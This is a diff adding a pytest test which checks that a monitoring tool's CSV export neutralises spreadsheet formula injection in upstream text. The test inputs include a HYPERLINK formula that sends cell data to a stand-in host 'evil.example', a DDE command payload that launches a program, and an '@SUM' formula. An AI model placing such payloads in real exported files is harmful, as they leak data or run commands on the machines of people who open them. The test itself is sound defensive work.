@@ -73,3 +73,21 @@ def test_csv_has_one_row_per_metric_point_and_statistic():
     assert rows[2][-1] == "", "no data is an empty value"
     assert rows[3][:3] == ["diskCapacity", "Disk capacity", "MB"]
     assert len(rows) == 5
+
+
+def test_csv_cells_from_upstream_text_never_run_as_formulas_and_values_stay_numbers():
+    body = monitor_body(points=1, metrics=('=HYPERLINK("https://evil.example/?"&A2)', "-2+3"))
+    body["metrics"][0]["dataPoints"][0]["unit"] = "+cmd|' /C calc'!A0"
+    body["metrics"][0]["dataPoints"][0]["statistics"] = [{"statistic": "@SUM(A1)", "value": -5.5}]
+    rows = list(csv.reader(io.StringIO(monitor_csv(MonitorResult.parse(body)))))
+    first, second = rows[1], rows[2]
+    assert first[:4] == [
+        '\'=HYPERLINK("https://evil.example/?"&A2)',
+        '\'=HYPERLINK("https://evil.example/?"&A2)',  # the label of an unknown metric is its name
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(A1)",
+    ]
+    assert first[-1] == "-5.5", "a negative value stays a number"
+    assert second[:2] == ["'-2+3", "'-2+3"]
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@")) or cell.startswith("-2")]
